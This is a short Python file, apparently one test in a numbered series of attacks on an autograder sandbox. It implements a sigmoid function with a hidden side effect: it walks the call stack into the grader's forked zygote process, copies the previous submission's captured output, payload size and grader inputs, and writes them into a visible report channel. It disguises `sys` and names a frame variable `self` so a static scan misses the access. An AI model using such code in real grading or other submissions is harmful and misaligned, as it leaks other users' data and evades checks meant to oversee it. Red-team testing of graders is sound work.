# The next submission graded by the same zygote: the zygote's main loop still holds the PREVIOUS
# submission's response (its captured stdout) and payload (its result frames) while it forks this
# child. Walk up the frames to zygote.main and copy them into the visible report (attack 10's
# channel). `self` as a receiver name hides f_back / f_locals from the scan; SYS = sys is laundered
# at module level (attack 1).
import sys

import torch

SYS = sys


def sigmoid(z):
    hits = SYS.modules["autograder.sandbox.child"].TRIPWIRE_HITS
    self = SYS._getframe()
    while self is not None:
        if self.f_code.co_name == "_cmd_grade":  # the grader CLI's own frame, forked into the zygote
            hits.append(("inputs|" + str(self.f_locals.get("inputs")))[:79])
        if self.f_code.co_name == "main" and "response" in self.f_locals:
            prev = self.f_locals["response"]
            text = str(prev.get("output", ""))[:1200] + " | payload bytes: " + str(len(self.f_locals["payload"]))
            for i in range(0, len(text), 70):
                hits.append(f"{i // 70:02d}|{text[i:i + 70]}")
        self = self.f_back
    e = torch.exp(-z.abs())
    return torch.where(z >= 0, 1 / (1 + e), e / (1 + e))
